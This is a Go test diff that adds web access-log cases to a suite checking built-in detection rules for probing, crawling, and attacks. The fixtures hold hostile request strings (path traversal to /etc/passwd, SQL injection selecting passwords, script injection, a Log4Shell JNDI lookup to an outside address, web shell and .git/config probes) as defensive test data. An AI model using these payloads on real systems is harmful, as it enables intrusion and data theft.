@@ -44,6 +44,17 @@ func TestBuiltinRules(t *testing.T) {
 	security := func(id int) string {
 		return fmt.Sprintf(`{"Event":{"System":{"Provider":{"#attributes":{"Name":"Microsoft-Windows-Eventlog"}},"EventID":%d,"Channel":"Security","Computer":"dc01","TimeCreated":{"#attributes":{"SystemTime":"2026-03-02T08:00:00Z"}}},"EventData":{"SubjectUserName":"svc"}}}`, id)
 	}
+	access := func(ip string, d time.Duration, method, uri string, status int, ua string) string {
+		return fmt.Sprintf(`%s - - [%s] "%s %s HTTP/1.1" %d 512 "-" "%s"`, ip, t0.Add(d).Format("02/Jan/2006:15:04:05 -0700"), method, uri, status, ua)
+	}
+	browser := "Mozilla/5.0 (X11; Linux x86_64) Firefox/128.0"
+	repeatReq := func(n int, every time.Duration, f func(i int, d time.Duration) string) []string {
+		var out []string
+		for i := range n {
+			out = append(out, f(i, time.Duration(i)*every))
+		}
+		return out
+	}
 	cases := []struct {
 		name  string
 		file  string
@@ -72,6 +83,34 @@ func TestBuiltinRules(t *testing.T) {
 		{"shadow copies listed", "win.jsonl", []string{sysmon(`C:\Windows\System32\vssadmin.exe`, `vssadmin list shadows`)}, nil},
 		{"security log cleared", "win.jsonl", []string{security(1102)}, []string{"Windows Security Event Log Cleared"}},
 		{"event log service shut down", "win.jsonl", []string{security(1100)}, nil},
+		{"web probing: 20 not-found in 5 minutes", "access.log", repeatReq(20, 10*time.Second, func(i int, d time.Duration) string {
+			return access("203.0.113.20", d, "GET", fmt.Sprintf("/admin%d", i), 404, browser)
+		}), []string{"Web Probing"}},
+		{"19 not-found", "access.log", repeatReq(19, 10*time.Second, func(i int, d time.Duration) string {
+			return access("203.0.113.20", d, "GET", fmt.Sprintf("/admin%d", i), 404, browser)
+		}), nil},
+		{"crawling: 100 pages in a minute", "access.log", repeatReq(100, 500*time.Millisecond, func(i int, d time.Duration) string {
+			return access("198.51.100.30", d, "GET", fmt.Sprintf("/news/item%d", i), 200, browser)
+		}), []string{"Aggressive Web Crawling"}},
+		{"a visitor loading 100 assets is not crawling", "access.log", repeatReq(100, 500*time.Millisecond, func(i int, d time.Duration) string {
+			return access("198.51.100.30", d, "GET", fmt.Sprintf("/static/img%d.png", i), 200, browser)
+		}), nil},
+		{"sensitive file", "access.log", []string{access("203.0.113.21", 0, "GET", "/.git/config", 404, "Go-http-client/1.1")}, []string{"Sensitive File Probe"}},
+		{"database dump", "access.log", []string{access("203.0.113.21", 0, "GET", "/backup.sql", 404, browser)}, []string{"Sensitive File Probe"}},
+		{"an ordinary page", "access.log", []string{access("10.0.0.5", 0, "GET", "/services/waste-collection?week=12", 200, browser)}, nil},
+		{"path traversal in the query", "access.log", []string{access("203.0.113.22", 0, "GET", "/download?file=../../../../etc/passwd", 400, browser)}, []string{"Path Traversal Attempt"}},
+		{"double-encoded traversal", "access.log", []string{access("203.0.113.22", 0, "GET", "/assets/%252e%252e%252f%252e%252e%252fetc%252fpasswd", 404, browser)}, []string{"Path Traversal Attempt"}},
+		{"scanner user agent", "access.log", []string{access("203.0.113.23", 0, "GET", "/", 200, "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None)")}, []string{"Known Attack Tool User Agent"}},
+		{"SQL injection", "access.log", []string{access("203.0.113.24", 0, "GET", "/news?id=1%20union%20select%20password%20from%20users", 500, browser)}, []string{"SQL Injection Attempt"}},
+		{"cross-site scripting", "access.log", []string{access("203.0.113.25", 0, "GET", "/search?q=%3Cscript%3Ealert(1)%3C/script%3E", 200, browser)}, []string{"Cross-Site Scripting Attempt"}},
+		{"Log4Shell in the user agent", "access.log", []string{access("203.0.113.26", 0, "GET", "/", 200, "${jndi:ldap://203.0.113.26/a}")}, []string{"Command Injection or Log4Shell Attempt"}},
+		{"web shell probe", "access.log", []string{access("203.0.113.27", 0, "GET", "/uploads/c99.php", 404, browser)}, []string{"Web Shell Probe"}},
+		{"WordPress login brute force", "access.log", repeatReq(5, 20*time.Second, func(i int, d time.Duration) string {
+			return access("203.0.113.28", d, "POST", "/wp-login.php", 200, browser)
+		}), []string{"WordPress Login Brute Force"}},
+		{"4 WordPress logins", "access.log", repeatReq(4, 20*time.Second, func(i int, d time.Duration) string {
+			return access("203.0.113.28", d, "POST", "/wp-login.php", 200, browser)
+		}), nil},
 	}
 	for _, c := range cases {
 		t.Run(c.name, func(t *testing.T) {
